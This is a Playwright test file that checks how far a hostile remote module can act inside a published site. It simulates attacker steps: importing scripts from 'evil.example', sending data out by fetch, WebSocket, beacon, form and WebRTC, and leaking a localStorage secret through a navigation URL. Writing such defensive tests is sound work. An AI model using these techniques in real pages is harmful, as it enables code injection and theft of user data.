import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { Page } from '@playwright/test';
import { freePort, openPublishedSite, type PublishedSite } from '../support/own-site';
import { expect, test, WITHOUT_MOTION } from '../support/store';

test.use(WITHOUT_MOTION);

/*
 * A remote's own code is hostile: a bad dependency, a stolen key. Its version is published with right hashes and runs in the page.
 * `.github/threat-model.md` lists what it can and cannot do there; both are tested.
 */

const HOSTILE = '6.6.6';

// One worker opens the site once for all tests.
test.describe.configure({ mode: 'default' });

test.describe('a remote with an attacker’s code', () => {
  let site: PublishedSite;
  /** An origin that no environment names: answers and records all requests. */
  let elsewhere: Server;
  let origin = '';
  let asked: string[] = [];
  /** A socket in place of a STUN server; every packet comes from WebRTC. */
  let stun: Socket;
  let packets = 0;

  test.beforeAll(async () => {
    elsewhere = createServer(({ url = '' }, answer) => {
      asked.push(url);
      const isScript = url.endsWith('.js');
      answer.setHeader('Access-Control-Allow-Origin', '*');
      answer.setHeader('Content-Type', isScript ? 'text/javascript' : 'text/html');
      answer.end(isScript ? 'globalThis.pwned = true;' : '<!doctype html><title>Elsewhere</title>');
    });
    const port = await freePort();
    await new Promise<void>((resolve) => elsewhere.listen(port, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${port}`;
    stun = createSocket('udp4');
    stun.on('message', () => {
      packets += 1;
    });
    await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
    // The cart's app module runs attacks that the test names, since one build per attack would take long.
    site = await openPublishedSite({
      [HOSTILE]: (file, text) =>
        /^app.*\.js$/.test(file)
          ? `globalThis.attack = { import: (address) => import(address) };${text}`
          : text,
    });
    await site.deploy({ cart: [{ version: HOSTILE, traffic: 100, default: true }] }, { overrides: 'deny' });
  });
  test.afterAll(async () => {
    await site.close();
    stun.close();
    await new Promise((resolve) => elsewhere.close(resolve));
  });
  test.beforeEach(() => {
    asked = [];
    packets = 0;
  });
  test.use({ expectedConsole: { matching: /./ } });

  const openCart = async (page: Page): Promise<void> => {
    await page.goto(`${site.url}#/cart`);
    await expect(page.getByText('Your cart is empty')).toBeVisible();
    await page.waitForFunction(() => 'attack' in globalThis);
  };

  for (const [overrides, where] of [
    ['allow', 'where no Integrity-Policy is sent, nor would be known'],
    ['deny', 'where every header is sent'],
  ] as const)
    test(`can import code only from the environment’s origins, ${where} [THREAT-08, THREAT-09]`, async ({
      page,
    }) => {
      await site.deploy({ cart: [{ version: HOSTILE, traffic: 100, default: true }] }, { overrides });
      await page.route('https://evil.example/**', (route) => {
        asked.push(route.request().url());
        const headers = { 'Access-Control-Allow-Origin': '*' };
        return route.fulfill({ contentType: 'text/javascript', body: 'globalThis.pwned = true', headers });
      });
      const answer = await page.goto(site.url);
      expect('integrity-policy' in (answer?.headers() ?? {})).toBe(overrides === 'deny');
      await openCart(page);
      const blob = await page.evaluate(() =>
        URL.createObjectURL(new Blob(['globalThis.pwned = true'], { type: 'text/javascript' })),
      );
      const addresses = [
        'data:text/javascript,globalThis.pwned=true',
        blob,
        'https://evil.example/evil.js',
        // Where overrides are allowed, scripts of this machine may run.
        ...(overrides === 'deny' ? [`${origin}/evil.js`] : []),
      ];
      for (const address of addresses) {
        const outcome = await page.evaluate(
          (from) =>
            Reflect.get(globalThis, 'attack')
              .import(from)
              .then(
                () => 'ran',
                () => 'refused',
              ),
          address,
        );
        expect([address, outcome]).toEqual([address, 'refused']);
      }
      expect(asked).toEqual([]);
      expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned'))).toBeUndefined();
    });

  test('sends nothing by WebRTC [THREAT-08, THREAT-09]', async ({ page }) => {
    const { port } = stun.address();
    /** Makes a page request its own address, as every new connection does first. */
    const gather = (): Promise<string> =>
      page.evaluate(async (urls) => {
        const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
        connection.createDataChannel('out');
        await connection.setLocalDescription(await connection.createOffer());
        return new Promise<string>((resolve) => {
          const settle = (): void => {
            if (connection.iceGatheringState === 'complete') resolve(connection.iceGatheringState);
          };
          connection.addEventListener('icegatheringstatechange', settle);
          settle();
        });
      }, `stun:127.0.0.1:${port}`);
    await openCart(page);
    expect(await gather()).toBe('complete');
    expect(packets).toBe(0);
    // Proves that the socket sees packets: a page without the header sends some.
    await page.goto(origin);
    const gathered = gather().catch(() => 'ended with its page');
    await expect.poll(() => packets).toBeGreaterThan(0);
    await page.goto('about:blank');
    await gathered;
  });

  test('sends nothing by the ways that the page’s policy restricts [THREAT-08, THREAT-09]', async ({
    page,
  }) => {
    await openCart(page);
    const outcomes = await page.evaluate(async (to) => {
      const refused = (attempt: Promise<unknown>): Promise<string> =>
        attempt.then(
          () => 'sent',
          () => 'refused',
        );
      const loaded = (element: HTMLElement): Promise<unknown> =>
        new Promise((resolve, reject) => {
          element.addEventListener('load', resolve);
          element.addEventListener('error', reject);
          document.body.append(element);
        });
      const image = Object.assign(document.createElement('img'), { src: `${to}/image` });
      const sheet = Object.assign(document.createElement('link'), {
        rel: 'stylesheet',
        href: `${to}/sheet.css`,
      });
      const socket = new Promise((resolve, reject) => {
        const one = new WebSocket(`${to.replace('http', 'ws')}/socket`);
        one.addEventListener('open', resolve);
        one.addEventListener('error', reject);
      });
      const outcomes: Record<string, string> = {
        fetch: await refused(fetch(`${to}/fetch`)),
        image: await refused(loaded(image)),
        sheet: await refused(loaded(sheet)),
        socket: await refused(socket),
      };
      navigator.sendBeacon(`${to}/beacon`, 'read');
      const form = Object.assign(document.createElement('form'), { action: `${to}/form`, method: 'post' });
      document.body.append(form);
      const isRefused = new Promise<void>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          if (effectiveDirective === 'form-action') resolve();
        });
      });
      form.submit();
      // Waits, since a later navigation would abort the form.
      await isRefused;
      return { ...outcomes, form: 'refused' };
    }, origin);
    const refused = 'refused';
    expect(outcomes).toEqual({
      fetch: refused,
      image: refused,
      sheet: refused,
      socket: refused,
      form: refused,
    });
    // A last request, so that any forbidden one would be recorded before it.
    await page.goto(`${origin}/last`);
    expect(asked.filter((url) => url !== '/favicon.ico')).toEqual(['/last']);
  });

  test('can read and change the page, and navigate to another address with the data [THREAT-09]', async ({
    page,
  }) => {
    await openCart(page);
    await page.evaluate(() => localStorage.setItem('read-by-another-remote', 'secret'));
    await page.evaluate((to) => {
      document.querySelector('h1')?.replaceChildren('Mine');
      const read = localStorage.getItem('read-by-another-remote');
      setTimeout(() => location.assign(`${to}/?${read}`));
    }, origin);
    await page.waitForURL(`${origin}/**`);
    expect(asked).toContain('/?secret');
  });
});
